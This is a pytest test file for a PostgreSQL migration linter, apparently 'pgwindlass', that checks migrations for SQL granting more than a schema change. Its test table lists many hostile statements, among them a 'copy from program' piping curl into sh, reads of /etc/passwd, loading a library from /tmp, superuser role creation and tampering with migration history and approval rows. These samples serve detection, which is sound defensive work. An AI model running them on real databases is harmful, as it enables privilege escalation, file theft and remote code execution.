"""What gives a migration's author more than a schema change is found before it runs."""

from pathlib import Path

import pytest

from pgwindlass.engines import HISTORIES
from pgwindlass.lint.statements import lint_files
from pgwindlass.parser.file import parse
from tests.kit import Project

pytestmark = pytest.mark.attack

A = "20260801_000000_a"
ROW = "('20260802_000000_b', null)"
BLOCK = "do $x$ begin {} end $x$"
EXECUTED = "do $x$ begin execute '{}'; end $x$"
FOUND = {
    "a history row": f"insert into schema_migrations (migration_name, checksum) values {ROW}",
    "a row of another's path": "update public.schema_migrations set checksum = 'x'",
    "a row in a CTE": "with d as (delete from schema_migrations returning 1) select * from d",
    "a row in a copy": "copy windlass.approval from program 'cat /tmp/x'",
    "Prisma's row": "delete from app._prisma_migrations",
    "Alembic's head": "update alembic_version set version_num = 'x'",
    "an approval": "insert into windlass.approval values ('n', 'd', 'alice')",
    "the identity": "delete from windlass.identity",
    "a trigger on the journal": "create trigger t after insert on windlass.step "
    "for each row execute function f()",
    "a rule on the history": "create rule r as on insert to schema_migrations do nothing",
    "a grant on the journal": "grant all on windlass.deployment to app",
    "the schema dropped": "drop schema windlass cascade",
    "a table dropped": "drop table if exists public.schema_migrations",
    "a table altered": "alter table schema_migrations owner to app",
    "a table renamed": "alter table windlass.lease rename to other",
    "row security": "alter table t disable row level security",
    "row security of the owner": "alter table t no force row level security",
    "row security unset": "set row_security = off",
    "triggers off": "set session_replication_role = replica",
    "triggers off by a function": "select set_config('session_replication_role', 'replica', false)",
    "a role": "create role r login superuser",
    "a user": "alter user app createrole",
    "a role's path": "alter role deployer set search_path = public, pg_catalog",
    "a role renamed": "alter role app rename to deployer",
    "a membership": "grant deployer to app",
    "another role": "set role postgres",
    "another role in a string": EXECUTED.format("set local role postgres"),
    "another session": "set session authorization postgres",
    "another role by a function": "select pg_catalog.set_config('role', 'postgres', true)",
    "everybody": "grant select on t to public",
    "everybody's execute": "grant execute on all functions in schema app to public",
    "everybody from now on": "alter default privileges grant insert on tables to public",
    "a program": "copy t from program 'curl example.com | sh'",
    "a program written to": "copy (select 1) to program 'cat > /tmp/x'",
    "a file": "copy t from '/etc/passwd'",
    "a file written": "copy t to '/tmp/x'",
    "a large object": "select lo_import('/etc/passwd')",
    "a large object out": "select lo_export(1, '/tmp/x')",
    "a file read": "insert into t select pg_catalog.pg_read_file('/etc/passwd')",
    "a directory": "create view v as select * from pg_ls_dir('/')",
    "a file in a default": "alter table t add column x text default pg_read_file('/etc/passwd')",
    "a language": "create language plpython3u",
    "a function in C": "create function f() returns int language c as 'lib', 'sym'",
    "a function of the server's": "create function f() returns int language internal as 'x'",
    "Python": "create function f() returns int language plpython3u as $$import os$$",
    "Perl in a block": "do language plperlu $$system('id')$$",
    "the definer's rights": "create function f() returns int language sql security definer "
    "as $$select 1$$",
    "the definer's rights later": "alter function f() security definer",
    "the database's path": "alter database shop set search_path = public, pg_catalog",
    "the database's library": "alter database shop set session_preload_libraries = 'evil'",
    "dblink": "create extension if not exists dblink",
    "a file wrapper": "create extension file_fdw",
    "a library": "load '/tmp/evil.so'",
    "an event trigger": "create event trigger e on ddl_command_end execute function f()",
    "objects handed on": "reassign owned by deployer to app",
    "a role in a block": BLOCK.format("create role r superuser;"),
    "a role in a string": EXECUTED.format("ALTER  /* x */  ROLE app SUPERUSER"),
    "a program in a block": BLOCK.format("copy t from program 'id';"),
    "everybody in a block": BLOCK.format("grant all on t to public;"),
    "triggers off in a block": BLOCK.format("set local session_replication_role = replica;"),
    "another role in a block": BLOCK.format("perform set_config('role', 'postgres', true);"),
    "a row in a block": BLOCK.format("insert into schema_migrations values ('b');"),
    "an approval in a block": BLOCK.format('delete from "windlass"."approval";'),
    "a file in a block": BLOCK.format("perform pg_read_file('/etc/passwd');"),
    "a role in a function": "create function f() returns void language plpgsql as "
    "$$begin alter role app superuser; end$$",
}


def rules(text: str) -> list[str]:
    findings = lint_files([parse(Path("a.sql"), f"{text};\n")], None, HISTORIES)
    return [one.rule for one in findings if one.level == "error"]


@pytest.mark.parametrize("text", FOUND.values(), ids=FOUND)
def test_it_is_found(text: str) -> None:
    assert "privilege" in rules(text)


def test_it_ends_a_deployment_above_development_unless_a_reason_stands_beside_it(
    tmp_path: Path, database16: object
) -> None:
    project = Project(tmp_path / "shop", database16.url.reveal())  # type: ignore[attr-defined]
    text = "create table a (id int);\ngrant select on a to public;"
    project.migration(A, text, "drop table a;")

    refused = project.run("deploy", "--env", "uat")

    assert refused.code == 3
    assert "privilege" in refused.err
    assert f"{A}.sql:2" in refused.error()[0]
    assert "-- windlass: allow privilege REASON" in refused.error()[2]
    allowed = text.replace("grant", "-- windlass: allow privilege a public list\ngrant")
    project.migration(A, allowed, "drop table a;")
    assert project.run("deploy", "--env", "uat").code == 0
